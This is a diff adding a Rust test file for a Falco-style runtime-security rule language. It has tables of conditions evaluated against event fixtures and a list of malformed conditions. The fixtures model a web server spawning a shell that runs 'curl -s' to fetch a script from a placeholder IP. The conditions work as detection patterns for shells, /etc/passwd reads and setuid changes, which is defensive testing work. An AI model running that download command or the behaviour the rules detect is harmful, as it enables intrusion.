@@ -1,0 +1,455 @@
+//! Data-driven condition tests: `(condition, event fixture, expected)` rows, each group
+//! derived from a section of the rule-language spec (falco-rule-language.md). Every row is
+//! loaded as a one-rule file on top of a shared prelude of lists and macros, and evaluated
+//! against a fixture from `common` (e.g. `curl` is `nginx -> sh -> curl` in a container).
+
+mod common;
+
+use common::{fixture, load_text, rule_yaml};
+
+const PRELUDE: &str = r#"
+- list: shell_binaries
+  items: [sh, bash]
+- list: empty_list
+  items: []
+- list: more_shells
+  items: [shell_binaries, zsh]
+- list: spaced
+  items: [my apt, other]
+- list: private_nets
+  items: ['"10.0.0.0/8"', '"172.16.0.0/12"', '"192.168.0.0/16"']
+- list: web_ports
+  items: [80, 443]
+- macro: spawned_process
+  condition: evt.type in (execve)
+- macro: is_curl
+  condition: proc.name = curl
+- macro: curl_or_cat
+  condition: proc.name = curl or proc.name = cat
+- macro: uses_other_macro
+  condition: spawned_process and is_curl
+- macro: never_true
+  condition: (evt.num=0)
+- macro: container
+  condition: (container.id != host)
+- macro: shell_procs
+  condition: proc.name in (shell_binaries)
+"#;
+
+/// (condition, fixture, expected)
+type Row = (&'static str, &'static str, bool);
+
+const ROWS: &[Row] = &[
+    // §2.5 equality and inequality, strings.
+    ("proc.name = curl", "curl", true),
+    ("proc.name == curl", "curl", true),
+    ("proc.name = cur", "curl", false),
+    ("proc.name != curl", "curl", false),
+    ("proc.name != wget", "curl", true),
+    ("proc.name=curl", "curl", true),
+    ("proc.name = \"curl\"", "curl", true),
+    ("proc.name = 'curl'", "curl", true),
+    ("proc.exepath = /usr/bin/curl", "curl", true),
+    (
+        "proc.cmdline = \"curl -s http://198.51.100.7/x.sh\"",
+        "curl",
+        true,
+    ),
+    ("proc.args = \"-s http://198.51.100.7/x.sh\"", "curl", true),
+    ("proc.args[1] = http://198.51.100.7/x.sh", "curl", true),
+    // §2.5 ordering on strings is byte-wise; numeric ops need numbers (quirk §2.10.5).
+    ("proc.name < 5", "curl", false),
+    ("proc.name > 5", "curl", true),
+    // §2.5 numeric comparisons (§2.6 typed parsing).
+    ("proc.pid = 300", "curl", true),
+    ("proc.pid != 300", "curl", false),
+    ("proc.pid > 299", "curl", true),
+    ("proc.pid >= 300", "curl", true),
+    ("proc.pid < 300", "curl", false),
+    ("proc.pid <= 300", "curl", true),
+    ("proc.pid in (1, 300, 7)", "curl", true),
+    ("proc.pid in (1, 2)", "curl", false),
+    ("proc.ppid = 200", "curl", true),
+    ("proc.vpid = 300", "curl", true),
+    ("proc.pid = 0x12c", "curl", true),
+    ("user.uid = 0", "curl", true),
+    ("user.loginuid = -1", "curl", true),
+    ("user.loginuid < 0", "curl", true),
+    ("proc.tty = 0", "curl", true),
+    ("proc.tty != 0", "host_bash", true),
+    ("proc.sid = 100", "curl", true),
+    ("proc.vpgid = 300", "curl", true),
+    ("proc.is_vpgid_leader = true", "curl", true),
+    ("proc.tracer_pid = 0", "curl", true),
+    ("proc.duration <= 5000000000", "curl", true),
+    ("proc.duration > 5000000000", "curl", false),
+    (
+        "proc.exe_ino.ctime_duration_proc_start = 8000000000",
+        "curl",
+        true,
+    ),
+    ("evt.num = 42", "curl", true),
+    ("evt.rawres >= 0", "curl", true),
+    ("evt.res = SUCCESS", "curl", true),
+    // §2.5 substring operators.
+    ("proc.cmdline contains 198.51", "curl", true),
+    ("proc.cmdline contains xyz", "curl", false),
+    ("proc.cmdline icontains \"CURL -S\"", "curl", true),
+    ("proc.cmdline contains \"CURL -S\"", "curl", false),
+    ("proc.exepath startswith /usr/", "curl", true),
+    ("proc.exepath startswith /bin/", "curl", false),
+    ("proc.exepath endswith /curl", "curl", true),
+    ("proc.exepath endswith /wget", "curl", false),
+    // §2.5 glob/iglob (fnmatch without FNM_PATHNAME, §6).
+    ("proc.exepath glob /usr/*/curl", "curl", true),
+    ("proc.exepath glob '/usr/b?n/c*'", "curl", true),
+    ("proc.exepath glob /usr/bin/[abc]url", "curl", true),
+    ("proc.exepath glob /usr/bin/[!c]url", "curl", false),
+    ("proc.exepath glob /usr/*", "curl", true),
+    ("proc.exepath glob /usr", "curl", false),
+    ("proc.exepath iglob /USR/*/CURL", "curl", true),
+    ("proc.exepath glob /USR/*/CURL", "curl", false),
+    ("fd.name glob '/etc/*'", "open_passwd", true),
+    // §2.5 regex: anchored full match.
+    ("proc.name regex 'c.rl'", "curl", true),
+    ("proc.name regex 'ur'", "curl", false),
+    ("proc.name regex '.*ur.*'", "curl", true),
+    ("proc.exepath regex '/usr/(bin|sbin)/[a-z]+'", "curl", true),
+    // §2.5 in / intersects / pmatch.
+    ("proc.name in (wget, curl)", "curl", true),
+    ("proc.name in (wget, nc)", "curl", false),
+    ("proc.name in ()", "curl", false),
+    ("proc.name intersects (curl, x)", "curl", true),
+    ("proc.name in (\"curl\", 'x')", "curl", true),
+    ("proc.exepath pmatch (/usr/bin)", "curl", true),
+    ("proc.exepath pmatch (/usr/bi)", "curl", false),
+    ("proc.exepath pmatch (/opt, /usr)", "curl", true),
+    ("proc.exepath pmatch (/usr/*/curl)", "curl", true),
+    ("proc.exepath pmatch (/usr/*)", "curl", true),
+    ("fd.name pmatch (/etc)", "open_passwd", true),
+    ("fd.name pmatch (/et)", "open_passwd", false),
+    // §2.5 exists.
+    ("proc.name exists", "curl", true),
+    ("fd.name exists", "curl", false),
+    ("proc.name exists", "file_noproc", false),
+    ("proc.env[HOME] exists", "curl", true),
+    ("proc.env[NOPE] exists", "curl", false),
+    // §2.5 modifiers (libs 0.25).
+    ("proc.exepath startswith anyof (/opt, /usr)", "curl", true),
+    ("proc.exepath startswith anyof (/opt, /srv)", "curl", false),
+    (
+        "proc.exepath startswith allof (/usr, /usr/bin)",
+        "curl",
+        true,
+    ),
+    ("proc.exepath startswith allof (/usr, /opt)", "curl", false),
+    (
+        "proc.exepath startswith oneof (/usr, /usr/bin)",
+        "curl",
+        false,
+    ),
+    ("proc.exepath startswith oneof (/usr, /opt)", "curl", true),
+    ("proc.name != allof (a, b)", "curl", true),
+    ("proc.name != allof (a, curl)", "curl", false),
+    // §2.4 precedence: not > and > or; n-ary; parentheses.
+    ("proc.name = curl and proc.pid = 300", "curl", true),
+    ("proc.name = curl and proc.pid = 1", "curl", false),
+    ("proc.name = x or proc.pid = 300", "curl", true),
+    ("proc.name = x or proc.pid = 1", "curl", false),
+    (
+        "proc.name = x and proc.pid = 1 or proc.pid = 300",
+        "curl",
+        true,
+    ),
+    (
+        "proc.name = x and (proc.pid = 1 or proc.pid = 300)",
+        "curl",
+        false,
+    ),
+    (
+        "proc.name = curl and not proc.pid = 1 or proc.pid = 7",
+        "curl",
+        true,
+    ),
+    ("not proc.name = curl or proc.pid = 300", "curl", true),
+    ("not (proc.name = curl or proc.pid = 300)", "curl", false),
+    ("not not proc.name = curl", "curl", true),
+    ("not not not proc.name = curl", "curl", false),
+    ("not(proc.name = wget)", "curl", true),
+    ("proc.name = curl and(proc.pid = 300)", "curl", true),
+    ("proc.name = x or(proc.pid = 300)", "curl", true),
+    ("((proc.name = curl))", "curl", true),
+    (
+        "proc.name = a or proc.name = b or proc.name = c or proc.name = curl",
+        "curl",
+        true,
+    ),
+    (
+        "proc.name = curl and proc.pid = 300 and user.uid = 0 and proc.tty = 0",
+        "curl",
+        true,
+    ),
+    ("proc.name = curl\n      and proc.pid = 300", "curl", true),
+    // §1.6/§2.1 macros are parsed sub-trees (behave as parenthesised).
+    ("is_curl", "curl", true),
+    ("not is_curl", "curl", false),
+    ("curl_or_cat and proc.pid = 300", "curl", true),
+    ("not curl_or_cat", "open_passwd", false),
+    ("uses_other_macro", "curl", true),
+    ("uses_other_macro", "open_passwd", false),
+    ("spawned_process and container", "curl", true),
+    ("spawned_process and container", "host_bash", false),
+    ("spawned_process and not never_true", "curl", true),
+    ("never_true", "curl", false),
+    ("shell_procs", "host_bash", true),
+    ("shell_procs", "curl", false),
+    // §2.1 step 2 list substitution (textual, with quoting of items containing spaces).
+    ("proc.name in (shell_binaries)", "host_bash", true),
+    ("proc.name in (shell_binaries, curl)", "curl", true),
+    ("proc.name in (shell_binaries)", "curl", false),
+    ("proc.name in (more_shells)", "host_bash", true),
+    ("proc.name in (empty_list)", "curl", false),
+    ("not proc.name in (empty_list)", "curl", true),
+    ("proc.name in (empty_list, curl)", "curl", true),
+    ("proc.name in (spaced)", "write_bin", true),
+    ("proc.name in (unknown_list_name)", "curl", false),
+    ("fd.snet in (private_nets)", "connect", false),
+    ("fd.cnet in (private_nets)", "connect", true),
+    ("fd.sport in (web_ports)", "connect", true),
+    // §2.9 missing values: every comparison false, not inverts.
+    ("fd.name = /etc/passwd", "curl", false),
+    ("fd.name != /etc/passwd", "curl", false),
+    ("not fd.name = /etc/passwd", "curl", true),
+    ("not fd.name exists", "curl", true),
+    ("proc.name != cat", "file_noproc", false),
+    ("not proc.name = cat", "file_noproc", true),
+    ("proc.name in (cat)", "file_noproc", false),
+    ("not proc.name in (cat)", "file_noproc", true),
+    ("not proc.pname exists", "host_bash", true),
+    ("proc.pname != x", "host_bash", false),
+    ("user.name = root", "file_noproc", false),
+    ("fd.sip = 198.51.100.7", "open_passwd", false),
+    ("container.id = host", "host_bash", true),
+    ("container.name = host", "host_bash", true),
+    ("container.id != host", "file_noproc", true),
+    // §2.7 ancestors (spec §6 golden chain nginx -> sh -> curl).
+    ("proc.pname = sh", "curl", true),
+    ("proc.aname[1] = sh", "curl", true),
+    ("proc.aname[2] = nginx", "curl", true),
+    ("proc.aname[0] = curl", "curl", true),
+    ("proc.aname = nginx", "curl", true),
+    ("proc.aname = curl", "curl", false),
+    ("proc.aname[5] = x", "curl", false),
+    ("not proc.aname[5] exists", "curl", true),
+    ("proc.aname in (nginx, httpd)", "curl", true),
+    ("proc.aname != x", "curl", true),
+    ("proc.apid[2] = 100", "curl", true),
+    ("proc.apid = 100", "curl", true),
+    ("proc.aexe[1] = /bin/sh", "curl", true),
+    ("proc.acmdline[2] = \"nginx -g daemon off;\"", "curl", true),
+    ("proc.pcmdline startswith \"sh -c\"", "curl", true),
+    ("proc.pexe = /bin/sh", "curl", true),
+    ("proc.sname = nginx", "curl", true),
+    // §2.8 transformers and val().
+    ("tolower(proc.name) = curl", "curl", true),
+    ("toupper(proc.name) = CURL", "curl", true),
+    ("toupper(proc.name) = curl", "curl", false),
+    ("basename(proc.exepath) = curl", "curl", true),
+    ("len(proc.name) = 4", "curl", true),
+    ("len(proc.name) > 10", "curl", false),
+    ("toupper(basename(proc.exepath)) = CURL", "curl", true),
+    ("b64(proc.env[B64]) = x", "curl", false),
+    ("proc.name = val(proc.aname[0])", "curl", true),
+    ("proc.name = val(proc.pname)", "curl", false),
+    ("proc.name != val(proc.pname)", "curl", true),
+    ("tolower(proc.name) = tolower(proc.name)", "curl", true),
+    ("proc.exepath endswith val(proc.name)", "curl", true),
+    ("proc.pid > val(proc.ppid)", "curl", true),
+    // §2.2 escapes in quoted strings.
+    ("proc.name = \"cu\\x72l\"", "curl", true),
+    ("proc.name = 'cu\\x72l'", "curl", true),
+    ("proc.cmdline contains \"\\x2ds\"", "curl", true),
+    ("proc.env[PATH] = \"/usr/bin:\\/bin\"", "curl", true),
+    // §2.5/§2.6 IP, network and port fields.
+    ("fd.sip = 198.51.100.7", "connect", true),
+    ("fd.sip != 198.51.100.7", "connect", false),
+    ("fd.cip = 10.0.0.5", "connect", true),
+    ("fd.lip = 10.0.0.5", "connect", true),
+    ("fd.rip = 198.51.100.7", "connect", true),
+    ("fd.ip = 10.0.0.5", "connect", true),
+    ("fd.ip = 198.51.100.7", "connect", true),
+    ("fd.ip != \"0.0.0.0\"", "connect", true),
+    ("fd.net = \"10.0.0.0/8\"", "connect", true),
+    ("fd.snet = \"10.0.0.0/8\"", "connect", false),
+    ("fd.net != \"127.0.0.0/8\"", "connect", true),
+    ("fd.rnet = \"198.51.100.0/24\"", "connect", true),
+    ("fd.lnet = \"10.0.0.0/24\"", "connect", true),
+    ("fd.sip in (198.51.100.7, 1.1.1.1)", "connect", true),
+    ("fd.sport = 443", "connect", true),
+    ("fd.sport = https", "connect", true),
+    ("fd.port = 40000", "connect", true),
+    ("fd.lport = 40000", "connect", true),
+    ("fd.rport = 443", "connect", true),
+    ("fd.l4proto = tcp", "connect", true),
+    ("fd.typechar = 4", "connect", true),
+    ("fd.typechar = '4'", "connect", true),
+    ("fd.type = ipv4", "connect", true),
+    ("fd.sockfamily = ip", "connect", true),
+    ("fd.connected = true", "connect", true),
+    (
+        "fd.name = 10.0.0.5:40000->198.51.100.7:443",
+        "connect",
+        true,
+    ),
+    // File fields and open flags (§4.1).
+    ("fd.directory = /etc", "open_passwd", true),
+    ("fd.filename = passwd", "open_passwd", true),
+    ("fd.typechar = f", "open_passwd", true),
+    ("fd.num >= 0", "open_passwd", true),
+    ("evt.is_open_read = true", "open_passwd", true),
+    ("evt.is_open_write = true", "open_passwd", false),
+    ("evt.is_open_write = false", "open_passwd", true),
+    ("evt.is_open_write in (true)", "write_bin", true),
+    ("evt.arg.mode contains S_ISUID", "chmod", true),
+    ("evt.arg.mode contains S_ISGID", "chmod", false),
+    ("evt.arg.nope exists", "chmod", false),
+    // evt.type and internal events.
+    ("evt.type = execve", "curl", true),
+    ("evt.type in (open, openat, openat2)", "open_passwd", true),
+    ("evt.type != execve", "curl", false),
+    (
+        "evt.type = tasksentry and tasksentry.kind = processes_missed",
+        "internal",
+        true,
+    ),
+    ("tasksentry.count >= 3", "internal", true),
+    ("tasksentry.message contains missed", "internal", true),
+    // Capabilities, users, stdio, container, ECS.
+    ("thread.cap_effective contains CAP_SYS_ADMIN", "curl", true),
+    (
+        "thread.cap_effective = \"CAP_NET_RAW CAP_SYS_ADMIN\"",
+        "curl",
+        true,
+    ),
+    ("thread.cap_inheritable = \"\"", "curl", true),
+    (
+        "user.name = root and user.homedir = /root and user.shell = /bin/sh",
+        "curl",
+        true,
+    ),
+    ("group.gid = 0 and group.name = root", "curl", true),
+    (
+        "proc.stdout_type = ipv4 and proc.stdin_type = pipe and proc.stderr_type = tty",
+        "curl",
+        true,
+    ),
+    ("proc.cwd = /tmp", "curl", true),
+    ("proc.env contains \"HOME=/root\"", "curl", true),
+    ("proc.is_exe_from_memfd = false", "curl", true),
+    ("proc.exe_written_after_start = false", "curl", true),
+    (
+        "container.image.repository = public.ecr.aws/nginx/nginx",
+        "curl",
+        true,
+    ),
+    ("container.image.tag = \"1.27\"", "curl", true),
+    ("container.image.digest = sha256:feed", "curl", true),
+    ("container.privileged = false", "curl", true),
+    ("container.name = web", "curl", true),
+    (
+        "ecs.family = shop and ecs.revision = 7 and ecs.launch_type = FARGATE",
+        "curl",
+        true,
+    ),
+    ("ecs.task_id = 0a1b2c", "curl", true),
+    ("ecs.container_arn exists", "curl", false),
+];
+
+#[test]
+fn condition_table() {
+    assert!(ROWS.len() >= 150, "{} rows", ROWS.len());
+    let mut failures = Vec::new();
+    for (i, (cond, fix, expected)) in ROWS.iter().enumerate() {
+        let text = format!("{PRELUDE}{}", rule_yaml("r", cond));
+        let outcome = load_text(&text);
+        let Some(set) = outcome.ruleset.as_ref() else {
+            let errs: Vec<String> = outcome.errors().map(|d| d.to_string()).collect();
+            failures.push(format!(
+                "row {i} `{cond}`: load failed: {}",
+                errs.join("; ")
+            ));
+            continue;
+        };
+        if set.len() != 1 {
+            failures.push(format!(
+                "row {i} `{cond}`: rule skipped: {:?}",
+                outcome.skipped
+            ));
+            continue;
+        }
+        let event = fixture(fix);
+        let mut out = Vec::new();
+        set.evaluate(&event, &mut out);
+        if out.is_empty() == *expected {
+            failures.push(format!("row {i} `{cond}` on {fix}: expected {expected}"));
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} failures:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
+}
+
+/// Conditions that must fail to load (spec §2.2, §2.3, §2.5, §2.6), with the text of the
+/// message expected.
+const BAD: &[(&str, &str)] = &[
+    ("proc.name = curl andb proc.pid = 1", "unexpected token"),
+    ("fd.name startswith\"/x\"", "must be followed by a blank"),
+    ("proc.name > abc", "expects a number"),
+    ("proc.name > \"abc\"", "expects a number"),
+    ("proc.name = \"\\q\"", "invalid escape"),
+    ("proc.name = \"abc", "unclosed quoted string"),
+    ("proc.name === x", "unexpected token"),
+    ("proc.name ~ x", "unknown operator"),
+    ("proc.pid = abc", "invalid int value"),
+    ("proc.pid in (1, x)", "invalid int value"),
+    ("fd.sip = 10.0.0.0/8", "invalid ipaddr value"),
+    ("fd.snet = 10.0.0.0/40", "invalid ipnet value"),
+    ("evt.is_open_read = yes", "invalid bool value"),
+    ("fd.sport = nosuchservice", "invalid port value"),
+    ("proc.name regex '('", "invalid regex"),
+    ("proc.name bcontains 00", "not allowed"),
+    ("proc.pid contains 3", "not allowed"),
+    ("undefined_macro_x", "Undefined macro"),
+    ("(proc.name = x", "missing ')'"),
+    ("proc.name in shell_binaries", "expecting a list"),
+    ("proc.name", "missing operator"),
+    ("proc.aname[x] = y", "numeric index"),
+    ("proc.name[1] = y", "does not take an argument"),
+    ("tolower(proc.pid) = 1", "needs a string"),
+    ("join(proc.name) = x", "not supported"),
+    ("proc.name = \"a\\x4\"", "\\x escape"),
+    ("proc.env contains HOME=/root", "unexpected token"),
+    (
+        "proc.exepath pmatch val(proc.name)",
+        "does not accept a field",
+    ),
+];
+
+#[test]
+fn bad_conditions_are_load_errors() {
+    let mut failures = Vec::new();
+    for (cond, needle) in BAD {
+        let text = format!("{PRELUDE}{}", rule_yaml("r", cond));
+        let outcome = load_text(&text);
+        let errors: Vec<String> = outcome.errors().map(|d| d.message.clone()).collect();
+        if outcome.ruleset.is_some() || !errors.iter().any(|e| e.contains(needle)) {
+            failures.push(format!(
+                "`{cond}`: expected an error containing '{needle}', got {errors:?}"
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
